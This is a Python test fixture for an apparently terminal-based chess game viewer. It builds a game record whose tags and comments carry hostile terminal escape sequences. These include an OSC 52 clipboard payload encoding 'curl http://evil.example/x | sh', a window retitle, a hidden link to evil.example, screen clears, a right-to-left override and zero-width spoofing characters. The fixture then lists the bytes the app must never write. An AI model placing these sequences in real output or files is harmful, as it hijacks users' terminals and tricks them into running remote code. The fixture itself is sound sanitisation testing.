"""A game record written to attack the player's terminal, and the sequences in it that must never reach one.

Its tags, comments and ending carry OSC 52 (put a command on the clipboard,
which tmux passes on with ``set-clipboard on``), OSC 0 (retitle the window),
OSC 8 (a hidden link), CSI (clear the screen), an 8-bit CSI (C1, U+009B) and a
right-to-left override; the names also hide zero-width characters, bidi marks and line separators (to make
one name look like another).  The moves are legal, so the app opens it, and the game goes on.
"""

from __future__ import annotations

CLIPBOARD = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07"  # "curl http://evil.example/x | sh"
TITLE = "\x1b]0;pwned\x07"
LINK = "\x1b]8;;http://evil.example/\x1b\\click here\x1b]8;;\x1b\\"
CLEAR = "\x1b[2J\x1b[H"
C1_CLEAR = "\x9b2J"
OVERRIDE = "\u202e"
INVISIBLE = "\u200b\u200d\u2060\u200e\u200f\u061c\u2028\u2029\ufeff"
"""Zero-width space, joiner, word joiner; left-to-right, right-to-left and Arabic letter marks; line and paragraph
separators; a zero-width no-break space."""

RECORD = (
    '[Variant "C\'escacs"]\n'
    '[Event "' + LINK.replace("\\", "\\\\") + '"]\n'  # a backslash is escaped in a tag value
    f'[Site "{C1_CLEAR}"]\n'
    f'[White "A{INVISIBLE}na{CLIPBOARD}"]\n'
    f'[Black "{TITLE}Bru{INVISIBLE}"]\n'
    f'[Annotator "{OVERRIDE}evil"]\n'
    '[TimeControl "300+5"]\n'
    '[Result "*"]\n'
    "\n"
    f"{{intro {CLEAR}}}\n"
    f"1. E7-E13 {{first {CLIPBOARD}}} E21-E15 {{second {TITLE} {OVERRIDE}}} {{third {LINK}}} *\n"
)
"""Opened, it shows the players' names (the clocks) and the last move's comments; ``v`` all of it, ``{`` the intro."""

NEVER_WRITTEN = {
    "OSC 52": b"\x1b]52",
    "OSC 0": b"\x1b]0;",
    "OSC 8": b"\x1b]8",
    "CSI 2J": b"\x1b[2J",
    "C1 CSI": "\x9b".encode(),
    "RLO": OVERRIDE.encode(),
    **{f"U+{ord(char):04X}": char.encode() for char in INVISIBLE},
}
"""What the app must never write for this record (Textual itself writes none of these)."""

SHOWN_SAFE = "\u241b]52;c;".encode()
"""The clipboard sequence as it is shown: ``␛]52;c;``."""
